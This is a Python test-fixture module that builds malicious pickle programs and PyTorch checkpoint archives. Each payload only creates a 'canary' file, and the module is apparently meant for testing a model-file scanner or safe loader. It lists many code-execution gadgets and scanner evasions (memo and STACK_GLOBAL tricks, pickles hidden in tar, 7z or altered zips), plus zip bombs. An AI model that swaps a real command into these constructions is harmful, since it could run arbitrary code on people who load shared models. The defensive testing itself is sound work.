"""Pickles and zip files that would run something: each creates the file `canary` when an unguarded reader opens it."""

import io
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

import torch

POP, TUPLE1, TUPLE2, STACK_GLOBAL = b"0", b"\x85", b"\x86", b"\x93"


def value(found: Any) -> bytes:
    """The steps that make a plain value."""
    return pickle.dumps(found, 2)[2:-1]


def name(module: str, member: str) -> bytes:
    return f"c{module}\n{member}\n".encode()


def apply(function: bytes, *arguments: Any) -> bytes:
    """The steps that call what other steps made; an argument that is bytes is steps, too."""
    return function + b"(" + b"".join(each if isinstance(each, bytes) else value(each) for each in arguments) + b"tR"


def call(module: str, member: str, *arguments: Any) -> bytes:
    return apply(name(module, member), *arguments)


def program(steps: bytes, protocol: int | None = 2) -> bytes:
    """A program that makes a dictionary, as a checkpoint is one, with what the steps make under the key `x`."""
    start = b"" if protocol is None else b"\x80" + bytes([protocol])
    return start + b"}" + value("x") + steps + b"s."


def programs(canary: str) -> dict[str, bytes]:
    """Programs that create the canary: what scanners look for, and what has got past them."""
    code, command, words = f"open({canary!r}, 'w').close()", f"touch {canary}", ["touch", canary]
    body = value(marshal.dumps(compile(code, "x", "exec")))
    reading = call(
        "functools", "partial", name("builtins", "next"), call("builtins", "iter", [code, "raise SystemExit"])
    )
    steps = {
        "os.system": call("os", "system", command),
        "posix.system": call("posix", "system", command),
        "subprocess": call("subprocess", "check_call", words),
        "eval": call("builtins", "eval", code),
        "exec": call("builtins", "exec", code),
        "eval of Python 2": call("__builtin__", "eval", code),
        "runpy": call("runpy", "_run_code", code, {}),
        "pty.spawn": call("pty", "spawn", words),
        "code.interact": call("code", "interact", "", reading),
        "timeit": call("timeit", "main", ["-n", "1", "-r", "1", code]),
        "bdb": apply(call("operator", "methodcaller", "run", code), call("bdb", "Bdb")),
        "cProfile": call("cProfile", "run", code),
        "numpy.testing": call("numpy.testing._private.utils", "runstring", code, {}),
        "numpy.f2py": call("numpy.f2py.crackfortran", "getlincoef", code, []),
        "imaplib": call("imaplib", "IMAP4_stream", command),
        "uuid": call("uuid", "_get_command_stdout", *words),
        "io": call("_io", "FileIO", canary, "w"),
        "a chain of calls": apply(
            call("builtins", "getattr", call("importlib", "import_module", "os"), "system"), command
        ),
        "marshal": apply(call("types", "FunctionType", call("marshal", "loads", body), {})),
        "a pickle in a pickle": call("_pickle", "loads", value(program(call("os", "system", command)))),
        "asyncio": call(
            "asyncio.unix_events", "_UnixSubprocessTransport._start", call("types", "SimpleNamespace"), command, True,
            None, None, None, 0,
        ),
        "STACK_GLOBAL": apply(value("os") + value("system") + STACK_GLOBAL, command),
        "STACK_GLOBAL from the memo": apply(
            value("system") + b"q\x09" + POP + value("os") + b"h\x09" + STACK_GLOBAL, command
        ),
        "STACK_GLOBAL from attributes": apply(
            name("numpy", "prod") + b"N" + value({"a": "os", "b": "system"}) + TUPLE2 + b"b" + POP
            + name("numpy", "prod.a") + name("numpy", "prod.b") + STACK_GLOBAL, command,
        ),
        "an overwritten memo": apply(
            name("collections", "OrderedDict") + b"q\x09" + POP + name("os", "system") + b"q\x09" + POP + b"h\x09",
            command,
        ),
        "a module's builtins": apply(
            call("builtins", "dict.get", name("numpy", "__builtins__"), "exec"), code
        ),
        "INST": b"(" + value(command) + b"ios\nsystem\n",
        "OBJ": b"(" + name("os", "system") + value(command) + b"o",
    }  # fmt: skip
    dotted = {"asyncio", "STACK_GLOBAL from attributes", "a module's builtins"}  # names that only newer protocols take
    made = {label: program(each, 4 if label in dotted else 2) for label, each in steps.items()}
    plain = call("os", "system", command)
    return made | {
        "no protocol": program(plain, None),
        "protocol 5": program(plain, 5),
        "protocol 0": program(plain, 0),
    }


def benign() -> dict[str, bytes]:
    """The records of a harmless checkpoint."""
    file = io.BytesIO()
    torch.save({"a": torch.arange(4.0), "state_dict": {"b": torch.ones(2, 3).half()}}, file)
    with zipfile.ZipFile(file) as found:
        return {record.partition("/")[2]: found.read(record) for record in found.namelist()}


def zipped(records: Mapping[str, bytes], method: int = zipfile.ZIP_STORED, root: str = "archive") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as made:
        for label, content in records.items():
            made.writestr(zipfile.ZipInfo(f"{root}/{label}"), content, method)
    return file.getvalue()


def with_program(evil: bytes) -> bytes:
    """A checkpoint as torch.save writes it, but for its program."""
    return zipped(benign() | {"data.pkl": evil})


def containers(evil: bytes) -> dict[str, bytes]:
    """Files that hide a program from those who look for it."""
    good, whole = benign(), with_program(evil)
    fine, script = zipped(good), {"code/x.py": b"import os", "constants.pkl": evil}
    checksum, mark = struct.pack("<I", zlib.crc32(evil)), b"PK\x01\x02"
    directory = whole.index(mark)
    without = {label: content for label, content in good.items() if label != "data.pkl"}
    return {
        "legacy": evil,
        "tar": _tarred(evil),
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + evil,
        "7z before the zip": b"7z\xbc\xaf\x27\x1c\x00\x04" + whole,
        "a pickle before the zip": evil + fine,
        "a pickle after the zip": fine + evil,
        "a second pickle": zipped(good | {"evil.pkl": evil}),
        "a pickle among the numbers": zipped(good | {"data/evil.pkl": evil}),
        "another ending": zipped(without | {"data.txt": evil}),
        "no folder": zipped({"data.pkl": evil}, root=""),
        "two folders": fine[:0]
        + _renamed(zipped(good | {"xdata.pkl": evil}), b"archive/xdata.pkl", b"brchive/.data.pkl"),
        "data.pkl twice": _renamed(zipped(good | {"data.pkx": evil}), b"archive/data.pkx", b"archive/data.pkl"),
        "DATA.PKL": _renamed(zipped(good | {"data.pkx": evil}), b"archive/data.pkx", b"archive/DATA.PKL"),
        "broken checksum": whole.replace(checksum, b"\0\0\0\0"),
        "broken checksum in the directory": whole[:directory] + whole[directory:].replace(checksum, b"\0\0\0\0"),
        "said to be encrypted": whole[: directory + 8] + b"\x01" + whole[directory + 9 :],
        "said to be encrypted at its own header": whole[:6] + b"\x01" + whole[7:],
        "another name in the directory": whole[:directory] + whole[directory:].replace(b"data.pkl", b"data.txt"),
        "another name at its own header": whole[:directory].replace(b"data.pkl", b"data.txt") + whole[directory:],
        "compressed": zipped(good | {"data.pkl": evil}, zipfile.ZIP_DEFLATED),
        "concatenated": zipped(good | {"data.pkl": good["data.pkl"] + evil}),
        "concatenated behind": zipped(good | {"data.pkl": evil + good["data.pkl"]}),
        "a zip in the zip": zipped(good | {"inner.pt": whole}),
        "TorchScript": zipped(good | script),
        "pt2": zipped({"archive_format": b"pt2", "models/model.json": b"{}", "data/weights/weight_0": evil}),
    }


def _renamed(whole: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new) and old in whole
    return whole.replace(old, new)


def _tarred(evil: bytes) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as made:
        for label in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(label)
            entry.size = len(evil)
            made.addfile(entry, io.BytesIO(evil))
    return file.getvalue()


def bombs() -> dict[str, bytes]:
    """Small files that claim to be large."""
    good = benign()
    deflated = zipped(good | {"data/9": bytes(64 << 20)}, zipfile.ZIP_DEFLATED)
    inner = zipped({"data/9": bytes(16 << 20)}, zipfile.ZIP_DEFLATED)
    return {
        "claims 10 GB": _claiming(10**10, method=0),
        "claims 10 GB deflated": _claiming(10**10, method=8),
        "deflated": deflated,
        "nested": zipped(good | {f"data/{count}.zip": inner for count in range(100)}),
        "nested among the numbers": zipped(good | {"data/9": inner}, zipfile.ZIP_DEFLATED),
        "overlapping": _overlapping(good["data.pkl"]),
        "a million records": _records(1_000_000),
        "a million records, said to be three": _records(1_000_000, 3),
        "a large program": zipped(good | {"data.pkl": b"\x80\x02" + b"N" * (64 << 20) + b"."}),
    }


LISTED = struct.Struct("<4s6H3I5H2I")


def _end(count: int, length: int, begin: int) -> bytes:
    wide = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, length, begin)
    place = struct.pack("<4sIQI", b"PK\6\7", 0, begin + length, 1)
    return wide + place + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def _records(count: int, said: int | None = None) -> bytes:
    """A directory of so many empty records."""
    entries = (
        LISTED.pack(b"PK\1\2", 0, 0, 0, 0, 0, 0, 0, 0, 0, 20, 0, 0, 0, 0, 0, 0) + b"archive/data/%07d" % each
        for each in range(count)
    )
    directory = b"".join(entries)
    return b"PK\3\4" + bytes(60) + directory + _end(said or count, len(directory), 64)


def _claiming(size: int, method: int) -> bytes:
    """One record that says to be so large."""
    label, wide = b"archive/data.pkl", struct.pack("<2H2Q", 1, 16, size, size if method == 0 else 100)
    most = 0xFFFFFFFF
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 0, 0, method, 0, 0, 0, most, most, len(label), len(wide)) + label + wide
    entry = LISTED.pack(b"PK\1\2", 0, 0, 0, method, 0, 0, 0, most, most, len(label), len(wide), 0, 0, 0, 0, 0)
    directory, data = entry + label + wide, local + bytes(100)
    return data + directory + _end(1, len(directory), len(data))


def _overlapping(content: bytes) -> bytes:
    """Many records whose bytes are the same."""
    label = b"archive/data.pkl"
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 0, 0, 0, 0, 0, 0, len(content), len(content), len(label), 0) + label
    entry = LISTED.pack(b"PK\1\2", 0, 0, 0, 0, 0, 0, 0, len(content), len(content), 16, 0, 0, 0, 0, 0, 0) + label
    directory, data = entry * 1000, local + content
    return data + directory + _end(1000, len(directory), len(data))
